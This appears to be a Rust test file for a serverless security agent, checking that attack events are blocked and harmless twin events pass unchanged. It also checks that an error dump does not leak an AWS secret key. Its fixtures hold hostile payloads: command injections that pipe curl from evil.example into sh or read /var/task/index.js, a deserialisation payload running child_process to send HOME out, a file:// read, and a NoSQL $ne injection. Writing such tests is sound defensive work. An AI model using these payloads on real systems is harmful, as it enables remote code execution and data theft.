//! The lessons of two vulnerable applications that people learn serverless security on, told anew:
//! the attack is refused, and its harmless twin reaches the function untouched.
//! They never copy a request of either application: the technique is what counts.
use serde_json::json;

use crate::harness::beside_others;
use crate::harness::lambda::Lambda;
use crate::harness::pair::Pair;

/// An attack with its harmless twin.
struct Lesson {
    name: &'static str,
    attack: String,
    twin: String,
    /// The rule that names the attack.
    rule: &'static str,
    /// What the caller's side gets, from its beginning.
    refusal: &'static str,
}

/// A notification of an upload, as the bucket writes it.
fn upload(key: &str) -> String {
    json!({"Records": [{
        "eventVersion": "2.1", "eventSource": "aws:s3", "awsRegion": "eu-central-1",
        "eventTime": "2026-11-26T00:00:00.000Z", "eventName": "ObjectCreated:Put",
        "userIdentity": {"principalId": "p"}, "requestParameters": {"sourceIPAddress": "192.0.2.7"},
        "responseElements": {"x-amz-request-id": "r", "x-amz-id-2": "i"},
        "s3": {"s3SchemaVersion": "1.0", "configurationId": "c",
            "bucket": {"name": "receipts", "ownerIdentity": {"principalId": "p"},
                "arn": "arn:aws:s3:::receipts"},
            "object": {"key": key, "size": 1024, "eTag": "e", "sequencer": "s"}}
    }]})
    .to_string()
}

/// A request to an HTTP API.
fn request(method: &str, query: &str, body: Option<String>) -> String {
    let mut event = json!({
        "version": "2.0", "routeKey": "$default", "rawPath": "/order", "rawQueryString": query,
        "headers": {"content-type": "application/json", "host": "api.example.com"},
        "requestContext": {"accountId": "1", "apiId": "a", "domainName": "api.example.com",
            "http": {"method": method, "path": "/order", "sourceIp": "192.0.2.7"},
            "requestId": "r", "stage": "$default"},
        "isBase64Encoded": false
    });
    if let Some(body) = body {
        event["body"] = body.into();
    }
    event.to_string()
}

const HTTP: &str = r#"{"statusCode":403,"#;

fn lessons() -> Vec<Lesson> {
    let order = |action: &str| json!({"action": action, "cart": "c-7"}).to_string();
    let packed = concat!(
        "_$$ND_FUNC$$_function(){require('child_process')",
        ".exec('curl https://evil.example/?'+process.env.HOME)}()"
    );
    vec![
        Lesson {
            name: "a command in the key of an uploaded receipt",
            attack: upload("2026/receipt_%3Bcurl+https%3A%2F%2Fevil.example%2Fa%7Csh%3B.raw"),
            twin: upload("2026/receipt+for+O%27Brien+%26+sons.raw"),
            rule: "command-injection",
            refusal: "null",
        },
        Lesson {
            name: "a function in a serialised order",
            attack: request("POST", "", Some(order(packed))),
            twin: request("POST", "", Some(order("get"))),
            rule: "deserialization",
            refusal: HTTP,
        },
        Lesson {
            name: "a shell behind a document's address",
            attack: request(
                "GET",
                "document_url=https%3A%2F%2Fexample.com%2Fa.doc%3B%20cat%20%2Fvar%2Ftask%2Findex.js%20%23",
                None,
            ),
            twin: request(
                "GET",
                "document_url=https%3A%2F%2Fexample.com%2Fa%20%26%20b%3B%20final.doc",
                None,
            ),
            rule: "command-injection",
            refusal: HTTP,
        },
        Lesson {
            name: "the function's own source as a document",
            attack: request(
                "GET",
                "document_url=file%3A%2F%2F%2Fvar%2Ftask%2Findex.js",
                None,
            ),
            twin: request(
                "GET",
                "document_url=https%3A%2F%2Fexample.com%2Findex.js",
                None,
            ),
            rule: "",
            refusal: HTTP,
        },
        Lesson {
            name: "an operator where an order's id was meant",
            attack: request("POST", "", Some(r#"{"orderId":{"$ne":null}}"#.into())),
            twin: request("POST", "", Some(r#"{"orderId":"$7.50"}"#.into())),
            rule: "nosql-injection",
            refusal: HTTP,
        },
    ]
}

#[test]
fn the_lessons_attacks_are_refused_and_their_twins_untouched() {
    let _room = beside_others();
    let mut pair = Pair::new("block");
    for lesson in lessons() {
        let Lesson {
            name,
            attack,
            twin,
            rule,
            refusal,
        } = lesson;
        let known = pair.lambda.count_answers();
        pair.lambda.push(Lambda::event("attack", attack.as_bytes()));
        pair.lambda.push(Lambda::event("twin", twin.as_bytes()));
        let received = pair.runtime.next().unwrap();
        assert_eq!(received.id, "twin", "{name}: the function saw the attack");
        assert!(
            received.body == twin.as_bytes(),
            "{name}: the twin was changed"
        );
        pair.runtime.respond("twin", b"{}").unwrap();
        let refused = pair.lambda.answer_to("attack", known);
        let answer = String::from_utf8_lossy(&refused.body.bytes).into_owned();
        assert!(answer.starts_with(refusal), "{name}: {answer}");
        if !rule.is_empty() {
            pair.agent.lines.wait(&[rule, "\"finding\""]);
        }
    }
}

#[test]
fn an_error_that_dumps_the_environment_does_not_leave_with_the_functions_key() {
    let _room = beside_others();
    let key = ["kW9zTq4L", "+0aR/nVb", "7yJXcE2u", "HdP3mG8s", "QoF5iN6t"].concat();
    let mut pair = Pair::with(&[
        ("CREDENZA_MODE", "block"),
        ("AWS_SECRET_ACCESS_KEY", key.as_str()),
    ]);
    let dump = |key: &str| {
        let environment = json!({"HOME": "/tmp", "AWS_SECRET_ACCESS_KEY": key});
        let message = format!("cannot convert document: {environment}");
        json!({"errorType": "Error", "errorMessage": message, "stackTrace": []}).to_string()
    };
    for (id, secret, leaves) in [("one", key.as_str(), false), ("two", "(hidden)", true)] {
        let known = pair.lambda.count_answers();
        pair.deliver(id, request("GET", "", None).as_bytes());
        let body = dump(secret);
        let (head, _) = pair
            .runtime
            .post(id, "error", &[], body.as_bytes())
            .unwrap();
        assert_eq!(head.status(), 202);
        let seen = pair.lambda.answer_to(id, known);
        let seen = String::from_utf8_lossy(&seen.body.bytes).into_owned();
        assert_eq!(seen == body, leaves, "{id}: {seen}");
        assert!(!seen.contains(&key[..8]), "{id}: {seen}");
    }
    let line = pair
        .agent
        .lines
        .wait(&["\"leak\"", "AWS_SECRET_ACCESS_KEY"]);
    assert!(!line.contains(&key[..4]), "{line}");
}
